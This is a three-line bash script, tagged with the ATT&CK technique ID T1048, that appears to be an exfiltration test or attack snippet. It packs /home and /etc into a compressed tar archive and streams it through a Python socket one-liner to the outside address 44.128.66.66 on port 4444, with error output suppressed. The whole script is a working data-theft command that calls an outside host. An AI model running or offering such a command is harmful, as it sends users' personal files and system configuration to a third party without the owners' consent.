#!/bin/bash
# T1048: A tar of the homes goes into a connection.
tar cz /home /etc 2>/dev/null | python3 -c 'import socket,sys;s=socket.create_connection(("44.128.66.66",4444));s.sendall(sys.stdin.buffer.read())'
